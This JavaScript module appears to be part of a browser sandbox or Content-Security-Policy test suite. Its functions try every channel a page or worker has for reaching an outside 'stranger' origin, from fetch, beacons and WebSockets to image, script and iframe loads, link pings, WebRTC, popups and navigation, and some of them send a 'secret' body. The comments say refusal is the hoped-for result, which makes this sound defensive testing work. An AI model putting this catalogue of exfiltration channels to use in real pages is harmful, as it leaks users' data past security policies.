/**
 * Ways out of a page and out of a worker. Each function is sent into the browser as text, so it sees
 * nothing but its argument; what gets through is for the stranger's server to say.
 */

/** Every way by which a document can send something, but for leaving the page. @param {{ origin: string }} stranger */
export async function fromPage({ origin }) {
  const mark = `${origin}/from-page`;
  const quietly = async (/** @type {() => unknown} */ attempt) => {
    try {
      await attempt();
    } catch {
      // Being refused is what we hope for.
    }
  };
  const element = (/** @type {string} */ name, /** @type {Record<string, string>} */ properties) => {
    const made = Object.assign(document.createElement(name), properties);
    document.body.append(made);
    return made;
  };
  await quietly(() => fetch(`${mark}-fetch`, { mode: 'no-cors' }));
  await quietly(() => fetch(`${mark}-post`, { method: 'POST', mode: 'no-cors', body: 'secret', keepalive: true }));
  await quietly(() => navigator.sendBeacon(`${mark}-beacon`, 'secret'));
  await quietly(() => {
    const request = new XMLHttpRequest();
    request.open('GET', `${mark}-xhr`);
    request.send();
  });
  await quietly(() => new WebSocket(`${mark.replace('http', 'ws')}-websocket`));
  await quietly(() => new EventSource(`${mark}-eventsource`));
  await quietly(() => import(`${mark}-import.js`));
  await quietly(() => element('img', { src: `${mark}-img` }));
  await quietly(() => element('video', { src: `${mark}-video` }));
  await quietly(() => element('link', { rel: 'stylesheet', href: `${mark}-style` }));
  await quietly(() => element('link', { rel: 'prefetch', href: `${mark}-prefetch` }));
  await quietly(() => element('link', { rel: 'preconnect', href: `${mark}-preconnect` }));
  await quietly(() => element('iframe', { src: `${mark}-iframe` }));
  await quietly(() => element('object', { data: `${mark}-object` }));
  await quietly(() => element('script', { src: `${mark}-script` }));
  await quietly(() => element('a', { href: location.href, ping: `${mark}-ping` }));
  await quietly(() => new FontFace('stranger', `url(${mark}-font)`).load());
  await quietly(() => new Worker(`${mark}-worker.js`));
  await quietly(() => {
    const form = /** @type {HTMLFormElement} */ (element('form', { action: `${mark}-form`, method: 'post', target: 'frame' }));
    form.submit();
  });
  await new Promise((resolve) => setTimeout(resolve, 300));
}

/** What no Content-Security-Policy reaches: another window, another page, WebRTC. @param {{ origin: string, port: number }} stranger */
export async function leavingPage({ origin, port }) {
  const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
  connection.createDataChannel('way-out');
  await connection.setLocalDescription().catch(() => undefined);
  window.open(`${origin}/window-open`);
  await new Promise((resolve) => setTimeout(resolve, 1500));
  location.href = `${origin}/navigation`;
}

/** Every way by which a worker can send something. @param {{ origin: string }} stranger */
export async function fromWorker({ origin }) {
  const mark = `${origin}/from-worker`;
  const quietly = async (/** @type {() => unknown} */ attempt) => {
    try {
      await attempt();
    } catch {
      // Being refused is what we hope for.
    }
  };
  await quietly(() => fetch(`${mark}-fetch`, { mode: 'no-cors' }));
  await quietly(() => fetch(`${mark}-post`, { method: 'POST', mode: 'no-cors', body: 'secret' }));
  await quietly(() => {
    const request = new XMLHttpRequest();
    request.open('GET', `${mark}-xhr`);
    request.send();
  });
  await quietly(() => new WebSocket(`${mark.replace('http', 'ws')}-websocket`));
  await quietly(() => new EventSource(`${mark}-eventsource`));
  await quietly(() => import(`${mark}-import.js`));
  await quietly(() => new Worker(`${mark}-worker.js`));
  await new Promise((resolve) => setTimeout(resolve, 300));
}
